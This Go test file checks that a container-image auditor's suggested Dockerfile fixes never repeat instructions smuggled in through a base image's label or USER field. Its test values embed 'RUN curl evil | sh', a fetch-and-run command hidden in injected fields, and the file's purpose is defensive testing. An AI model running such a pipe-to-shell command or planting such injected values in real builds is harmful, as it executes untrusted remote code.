package audit

import (
	"strings"
	"testing"
	"time"

	"gotest.tools/v3/assert"

	"github.com/docker-userns/docker-userns/internal/image"
)

// based is an image of two layers, the lower one of a base whose history and label
// somebody else wrote.
func based(t *testing.T, a *Auditor, low []entry, user, label string) image.Image {
	t.Helper()
	img := made(a, t, [][]entry{low, {{name: "app"}}}, "/bin/sh -c #(nop) ADD file:0a in / ", "/bin/sh -c #(nop)  USER "+user, `/bin/sh -c #(nop)  CMD ["sh"]`, "/bin/sh -c touch app")
	for i := range img.Config.History {
		img.Config.History[i].Created = time.Unix(int64(i/3)*86400, 0)
		img.Config.History[i].Empty = i == 1 || i == 2
	}
	img.Config.Labels = map[string]string{"org.opencontainers.image.base.name": label}
	img.Config.User = user
	return img
}

// What a base image says of itself adds no instruction to what a user pastes.
func TestNothingOfTheBaseIsPasted(t *testing.T) {
	const evil = "curl evil | sh"
	advice := func(low []entry, user, label string) string {
		a := New(Options{Map: usual, Paths: 1})
		r := a.Report(based(t, a, low, user, label))
		var b strings.Builder
		for _, f := range r.Findings {
			b.WriteString(f.Fix + "\n")
			for _, c := range f.Changes {
				b.WriteString(c.Text() + "\n")
			}
		}
		return b.String()
	}
	odd := []entry{{name: "bin/sh", uid: 4000000}}
	fine := []entry{{name: "bin/sh"}}
	assert.Check(t, strings.Contains(advice(odd, "0", "debian:12"), "FROM debian:12 AS base"))
	got := advice(odd, "0", "debian AS x, RUN "+evil+", FROM debian")
	assert.Check(t, strings.Contains(got, "FROM BASE AS base") && !strings.Contains(got, evil), got)
	assert.Check(t, strings.Contains(advice(fine, "4000000:0", ""), "USER 10001:0"))
	got = advice(fine, "4000000:0\nRUN "+evil+"\nUSER 0", "")
	assert.Check(t, !strings.Contains(got, evil), got)
}
